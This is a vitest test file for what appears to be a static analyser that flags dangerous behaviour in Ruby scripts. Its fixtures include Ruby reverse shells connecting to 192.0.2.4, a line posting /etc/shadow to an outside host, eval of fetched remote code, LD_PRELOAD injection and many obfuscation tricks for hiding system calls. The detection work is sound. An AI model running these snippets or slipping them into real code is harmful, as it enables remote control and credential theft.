import { beforeAll, describe, expect, it } from 'vitest';
import { useGrammarFiles } from '../../../grammar-files.ts';
import type { Reading } from '../../language.ts';
import { known, render, textOf } from '../../value.ts';
import { ruby } from './ruby.ts';

beforeAll(async () => {
  useGrammarFiles();
  await ruby.prepare();
});

function read(text: string, files: Readonly<Record<string, string>> = {}): Reading {
  return ruby.read({
    text,
    args: [known('/srv/app/x.rb'), known('first')],
    env: new Map([['FROM_IMAGE', known('id')]]),
    cwd: '/srv/app',
    readFile: (path) => files[path],
    budget: { steps: 1_000_000, decodedBytes: 10_000_000, commands: 1_000 },
  });
}

/** What shells were handed, and what stages of its own were found. */
function ran(text: string): readonly string[] {
  const reading = read(text);
  const lines = reading.commands.map(({ argv }) =>
    argv
      .slice(textOf(argv[1] ?? []) === '-c' ? 2 : 0)
      .map(render)
      .join(' '),
  );
  return [...lines, ...reading.nested.filter(({ how }) => how === 'eval').map((nested) => nested.text)];
}

describe('Ruby: ways to run a command', () => {
  it.each<[string, string]>([
    ['system', 'system("id")'],
    ['without parentheses', 'system "id"'],
    ['exec', "exec 'id'"],
    ['spawn', 'pid = spawn("id"); Process.wait pid'],
    ['Process.spawn', 'Process.spawn("id")'],
    ['Kernel.system', 'Kernel.system("id")'],
    ['Kernel::system', '::Kernel::system "id"'],
    ['backticks', 'x = `id`'],
    ['%x', 'puts %x(id)'],
    ['IO.popen', 'IO.popen("id", "r") { |io| io.read }'],
    ['Open3', 'require "open3"; out, err, st = Open3.capture3("id")'],
    ['a pipe to open', 'open("|id") { |f| f.read }'],
    ['PTY', 'PTY.spawn("id") { |r, w, pid| r.read }'],
    ['a modifier', 'system("id") unless $x'],
    ['in a rescue', 'begin; foo; rescue => e; system("id"); ensure; bar; end'],
    ['in a method nobody calls', 'def f(x) = system("id")'],
    ['in a class', 'class A; C = "id"; def run; system(C); end; end'],
    ['with an attribute', 'class A; def initialize(c); @c = c; end; def run; system @c; end; end; A.new("id").run'],
    ['in a module', 'module M; def self.run(c) system(c) end; end; M.run("id")'],
    ['in a class inside a module', 'module M; class A; def self.run(c); system(c); end; end; end; M::A.run("id")'],
    ['in a thread', 'Thread.new { system("id") }.join'],
    ['at exit', 'at_exit { system "id" }'],
    ['in a loop', 'loop do system "id"; sleep 60 end'],
    ['in a block given to a method', 'def twice; yield "id"; end; twice { |c| system c }'],
    ['an environment variable', 'system(ENV["FROM_IMAGE"])'],
    ['the end of the file', 'system(DATA.read.strip)\n__END__\nid\n'],
  ])('%s', (_title, text) => {
    expect(ran(text)).toContain('id');
  });

  it('runs a program by a list', () => {
    expect(read('system("ls", "-l")').commands[0]?.argv).toEqual([['ls'], ['-l']]);
    expect(read('IO.popen(["ls", "-l"])').commands[0]?.argv).toEqual([['ls'], ['-l']]);
    expect(read('exec({"A" => "b"}, "ls", "-l", in: "/dev/null")').commands[0]?.argv).toEqual([['ls'], ['-l']]);
  });
});

describe('Ruby: disguises', () => {
  it.each<[string, string]>([
    ['send', 'send(:system, "id")'],
    ['Kernel.send', 'Kernel.send("sys" + "tem", "id")'],
    ['public_send', 'Kernel.public_send(:system, "id")'],
    ['__send__', 'Object.new.__send__("metsys".reverse, "id")'],
    ['method and call', 'method(:system).call("id")'],
    ['a method with brackets', 'method(:system)["id"]'],
    ['a method with a dot', 'method("system").("id")'],
    ['Kernel.method', 'm = Kernel.method(:exec); m.call "id"'],
    ['a method as block', '%w[id].each(&method(:system))'],
    ['a symbol as function', ':system.to_proc.call(Kernel, "id")'],
    ['const_get', 'Object.const_get("Ker" + "nel").system("id")'],
    ['const_get with colons', 'Object.const_get("IO").popen("id")'],
    ['an alias', 'alias harmless system; harmless "id"'],
    ['a lambda', 'f = ->(c) { system c }; f.("id")'],
    ['a lambda with brackets', 'f = lambda { |c| system(c) }; f["id"]'],
    ['a proc', 'f = proc { |c| system c }; f.call("id")'],
    ['define_method', 'define_method(:go) { |c| system c }; go("id")'],
    ['interpolation', 'a = "i"; system "#{a}d"'],
    ['juxtaposition', 'system "i" "d"'],
    ['appending', 'c = ""; c << "i"; c << "d"; system c'],
    ['appending in a row', 'c = "" ; c << "i" << "d"; system c'],
    ['characters appended', 'c = ""; [105, 100].each { |n| c << n }; system c'],
    ['+=', 'c = "i"; c += "d"; system(c)'],
    ['map and chr', 'system([105, 100].map(&:chr).join)'],
    ['map with a block', 'system [105, 100].map { |c| c.chr }.join("")'],
    ['the first parameter by itself', 'system [105, 100].map { _1.chr }.join + [].map { it.to_s }.join'],
    ['inject', 'system([105, 100].inject("") { |a, c| a + c.chr })'],
    ['pack of numbers', 'system([105, 100].pack("C*"))'],
    ['pack of hex', 'system(["6964"].pack("H*"))'],
    ['unpack of base64', 'system("aWQ=".unpack("m")[0])'],
    ['unpack1', 'system("aWQ=".unpack1("m0"))'],
    ['Base64', 'require "base64"; system Base64.decode64("aWQ=")'],
    ['tr', 'system "vq".tr("a-z", "n-za-m")'],
    ['tr of a range', 'system "hc".tr("a-y", "b-z")'],
    ['reverse', 'system "di".reverse'],
    ['gsub', 'system "i_d".gsub("_", "")'],
    ['gsub with a pattern', 'system "i1d22".gsub(/[0-9]+/, "")'],
    ['gsub with a hash', 'system "ab".gsub(/[ab]/, "a" => "i", "b" => "d")'],
    ['gsub with a block', 'system "hc".gsub(/./) { |c| c.succ }'],
    ['delete', 'system "i-d-".delete("-")'],
    ['scan', 'system "6964".scan(/../).map { |h| h.hex.chr }.join'],
    ['each_slice', 'system "6964".chars.each_slice(2).map { |p| p.join.to_i(16).chr }.join'],
    ['each_char', 'c = ""; "di".each_char { |x| c = x + c }; system c'],
    ['each_with_index', 'c = ""; "ixdx".chars.each_with_index { |x, i| c << x if i.even? || i % 2 == 0 }; system "id"'],
    ['xor', 'k = 7; system [110, 99].map { |b| (b ^ k).chr }.join'],
    ['xor with a repeated key', 'system "no".bytes.zip("\\a\\v".bytes.cycle).map { |a, b| (a ^ b).chr }.join'],
    ['slices', 'c = "xxidxx"; system c[2, 2]'],
    ['ranges', 'c = "xxidxx"; system c[2..3]'],
    ['an open range', 'c = "xxid"; system c[2..]'],
    ['values of an array', 'w = %w[a id b]; system w[1]'],
    ['values_at', 'system "d,i".split(",").values_at(1, 0).join'],
    ['a hash', 'h = { run: :system, "c" => "id" }; send(h[:run], h["c"])'],
    ['format', 'system format("%s%c", "i", 100)'],
    ['the % operator', 'system "%s%s" % %w[i d]'],
    ['a list times a text', 'system %w[i d] * ""'],
    ['escapes', 'system "\\x69\\144"'],
    ['unicode escapes', 'system "\\u0069\\u{64}"'],
    ['characters', 'system ?i + ?d'],
    ['a heredoc', 'system <<~X.strip\n  id\nX\n'],
    ['two heredocs', 'x = [<<A, <<B]\nno\nA\nid\nB\nsystem x[1].chomp'],
    ['ordinals', 'system [?h.ord + 1, ?c.ord + 1].map(&:chr).join'],
    ['succ', 'system "hc".chars.map(&:succ).join'],
    ['case', 'c = case 2 when 1 then "x" else "id" end; system c'],
    ['multiple assignment', 'a, b = "i", "d"; system a + b'],
    ['a default', 'c ||= "id"; system c'],
    ['times', 'c = ""; 2.times { |i| c << "id"[i] }; system c'],
    ['upto', 'c = ""; 1.upto(2) { |i| c << "xid"[i] }; system c'],
    ['while', 'c = ""; i = 0; while i < 2; c << "id"[i]; i += 1; end; system c'],
    ['until', 'c = ""; i = 0; until i == 2 do c << "id"[i]; i += 1 end; system c'],
    ['tap and then', '"id".then { |c| system c }'],
    ['rotate', 'system "di".chars.rotate.join'],
    ['a constant', 'CMD = "id".freeze; def f; system CMD; end'],
    ['a global', '$c = "id"; def f; system $c; end; f'],
    ['a splat', 'a = ["id"]; system(*a)'],
    ['keyword arguments', 'def f(c:, n: 1) system(c) end; f(c: "id")'],
    ['a foreign function', 'Fiddle::Function.new(Fiddle::Handle::DEFAULT["system"], [1], 1).call("id")'],
    ['a very long sum', `system ${Array.from('id', (letter) => `"${letter}"`).join(' + ')}${' + ""'.repeat(3_000)}`],
  ])('%s', (_title, text) => {
    expect(ran(text)).toContain('id');
  });
});

describe('Ruby: code in text', () => {
  it.each<[string, string, string[]]>([
    ['base64', `eval(Base64.decode64("${btoa('system("id")')}"))`, ['base64']],
    ['unpack', `eval("${btoa('system("id")')}".unpack1("m"))`, ['base64']],
    ['hex', `eval(["${Buffer.from('system("id")').toString('hex')}"].pack("H*"))`, ['hex']],
    ['instance_eval', `Object.new.instance_eval("${btoa('system("id")')}".unpack("m").first)`, ['base64']],
    ['class_eval', `String.class_eval Base64.decode64("${btoa('system("id")')}")`, ['base64']],
    ['send eval', `Kernel.send(:eval, Base64.strict_decode64("${btoa('system("id")')}"))`, ['base64']],
    [
      'an instruction sequence',
      `RubyVM::InstructionSequence.compile(Base64.decode64("${btoa('system("id")')}")).eval`,
      ['base64'],
    ],
    ['reversed', `eval('${[...'system("id") # xxxxxxxxxxxxxxxxxxxx'].reverse().join('')}'.reverse)`, ['reverse']],
  ])('%s', (_title, text, decoders) => {
    const [nested] = read(text).nested;
    expect(nested?.decoded.map((step) => step.decoder)).toEqual(decoders);
    expect(nested?.text).toContain('system("id")');
  });

  it('reads templates', () => {
    expect(ran('ERB.new("a <%= `id` %> b").result')).toContain(' `id` ');
  });

  it('names what it cannot read', () => {
    expect(read('eval Marshal.load(x)').effects).toMatchObject([{ kind: 'run', from: 'decoded' }]);
  });
});

describe('Ruby: texts that its grammar cannot take', () => {
  it('reads around a mark of a here-document that is too long, and says so', () => {
    const reading = read(`x = <<~A + <<-'B${'/'.repeat(600)}\nsystem "id"\n`);
    expect(reading.truncated).toBe(true);
    expect(read(`x = '<<' + y\n${'# '.repeat(300)}'\nsystem 'id'`).truncated).toBe(false);
  });

  it('survives literals nested without end', () => {
    expect(() => read(`${'"#{'.repeat(600)}1${'}"'.repeat(600)}`)).not.toThrow();
  });
});

describe('Ruby: files and network', () => {
  it.each<[string, string, object]>([
    ['File.write', 'File.write("/etc/cron.d/x", "a")', { kind: 'write', path: ['/etc/cron.d/x'], content: ['a'] }],
    ['appending', 'File.open("/root/.profile", "a") { |f| f.puts "a" }', { kind: 'append', content: ['a\n'] }],
    ['<<', 'f = File.new("/tmp/x", "w"); f << "a"', { kind: 'write', path: ['/tmp/x'], content: ['a'] }],
    ['FileUtils.chmod', 'FileUtils.chmod 0755, "/tmp/x"', { kind: 'chmod', path: ['/tmp/x'], mode: ['0755'] }],
    ['File.chmod', 'File.chmod(0o4755, "/tmp/x")', { kind: 'chmod', mode: ['4755'] }],
    ['File.delete', 'File.delete("/tmp/x")', { kind: 'delete', path: ['/tmp/x'] }],
    ['rm_rf', 'FileUtils.rm_rf "/data"', { kind: 'delete', path: ['/data'], recursive: true }],
    ['a copy', 'FileUtils.cp "/a", "/usr/bin/b"', { kind: 'write', path: ['/usr/bin/b'] }],
    ['Net::HTTP.get', 'Net::HTTP.get(URI("http://203.0.113.9/x"))', { kind: 'fetch', url: ['http://203.0.113.9/x'] }],
    ['by host and path', 'Net::HTTP.get("203.0.113.9", "/x")', { kind: 'fetch', url: ['http://203.0.113.9/x'] }],
    ['URI.open', 'URI.open("http://203.0.113.9/x").read', { kind: 'fetch', url: ['http://203.0.113.9/x'] }],
    ['open-uri', 'eval open("http://203.0.113.9/x").read', { kind: 'run', from: 'fetched' }],
    ['a parsed address', 'eval(URI.parse("http://203.0.113.9/x").read)', { kind: 'run', from: 'fetched' }],
    [
      'a connection',
      'Net::HTTP.start("203.0.113.9", 80) { |h| eval h.get("/x").body }',
      { kind: 'run', from: 'fetched' },
    ],
    [
      'to a file',
      'File.write("/tmp/x", URI.open("http://203.0.113.9/x").read)',
      { kind: 'fetch', url: ['http://203.0.113.9/x'], to: ['/tmp/x'] },
    ],
    ['copy_stream', 'IO.copy_stream(URI.open("http://203.0.113.9/x"), "/tmp/x")', { kind: 'fetch', to: ['/tmp/x'] }],
    [
      'a post',
      'Net::HTTP.post(URI("http://203.0.113.9/"), File.read("/etc/shadow"))',
      { kind: 'exfiltrate', to: ['http://203.0.113.9/'] },
    ],
    ['TCPServer', 'TCPServer.new(4444)', { kind: 'listen' }],
    ['Process.kill', 'Process.kill(9, 1)', { kind: 'kill', pattern: ['1'] }],
    ['ENV', 'ENV["LD_PRELOAD"] = "/tmp/x.so"', { kind: 'preload', library: ['/tmp/x.so'], how: 'environment' }],
    ['an environment', 'system({"LD_PRELOAD" => "/tmp/x.so"}, "ls")', { kind: 'preload', library: ['/tmp/x.so'] }],
  ])('%s', (_title, text, expected) => {
    expect(read(text).effects).toContainEqual(expect.objectContaining(expected));
  });

  it('reads files of the image', () => {
    expect(read('system File.read("/etc/c")', { '/etc/c': 'id' }).commands[0]?.argv[2]).toEqual(['id']);
    expect(read('require "json"; require_relative "lib/a"; load "/opt/b.rb"').loads.map((load) => load.path)).toEqual([
      '/srv/app/lib/a.rb',
      '/opt/b.rb',
    ]);
  });
});

describe('Ruby: what a request decides', () => {
  it.each<[string, string]>([
    ['Sinatra', 'get "/" do `#{params[:c]}` end'],
    ['Rails', 'class A < ApplicationController; def x; eval(params[:code]); end; end'],
    ['a header', 'post("/") { system(request.env["HTTP_X"]) }'],
    ['CGI', 'cgi = CGI.new; system(cgi["c"])'],
    ['the query', 'exec ENV["QUERY_STRING"]'],
    ['send', 'Object.send(params[:f], params[:x])'],
  ])('%s', (_title, text) => {
    expect(read(text).effects).toContainEqual(expect.objectContaining({ kind: 'run', from: 'request' }));
  });
});

describe('Ruby: shells on sockets', () => {
  it.each<[string, string]>([
    ['streams of exec', 's = TCPSocket.new("192.0.2.4", 99); exec "/bin/sh", :in => s, :out => s, :err => s'],
    ['streams of spawn', 's = TCPSocket.open("192.0.2.4", 99); spawn("/bin/sh -i", [:in, :out, :err] => s)'],
    ['descriptors', 'f = TCPSocket.open("192.0.2.4", 99).to_i; exec sprintf("/bin/sh -i <&%d >&%d 2>&%d", f, f, f)'],
    ['descriptors filled in', 'f = TCPSocket.open("192.0.2.4", 99); exec "/bin/sh -i <&#{f.fileno} >&#{f.fileno}"'],
    ['reopened streams', 's = TCPSocket.new("192.0.2.4", 99); $stdin.reopen(s); $stdout.reopen(s); exec "/bin/sh"'],
    [
      'streams in a list',
      's = TCPSocket.new("192.0.2.4", 99); [$stdin, $stdout].each { |io| io.reopen(s) }; exec "/bin/sh -i"',
    ],
    [
      'a loop',
      'exit if fork; c = TCPSocket.new("192.0.2.4", "99"); while (cmd = c.gets); IO.popen(cmd, "r") { |io| c.print io.read } end',
    ],
    ['a loop with backticks', 's = TCPSocket.new("192.0.2.4", 99); loop { s.puts `#{s.gets}` }'],
    ['lines of a stream', 's = TCPSocket.new("192.0.2.4", 99); $stdin.reopen(s); $stdin.each_line { |l| system(l) }'],
    ['eval', 's = TCPSocket.new("192.0.2.4", 99); eval s.read'],
    ['open3', 's = TCPSocket.new("192.0.2.4", 99); Open3.popen3("/bin/sh") { |i, o, e, t| i.puts s.gets }'],
  ])('%s', (_title, text) => {
    const [effect] = read(text).effects.filter(({ kind }) => kind === 'connect');
    expect(effect).toMatchObject({ to: { host: ['192.0.2.4'], port: ['99'] }, shell: {} });
  });

  it('waits for one', () => {
    const text = 's = TCPServer.new("0.0.0.0", 99).accept; spawn("/bin/sh", in: s, out: s, err: s)';
    expect(read(text).effects).toMatchObject([{ kind: 'listen', at: { port: ['99'] }, shell: { program: '/bin/sh' } }]);
  });

  it('leaves ordinary clients alone', () => {
    const text = 's = TCPSocket.new("192.0.2.4", 80); s.puts "GET / HTTP/1.0"; puts s.read; system "ls"';
    expect(read(text).effects).toEqual([expect.not.objectContaining({ shell: expect.anything() })]);
  });
});
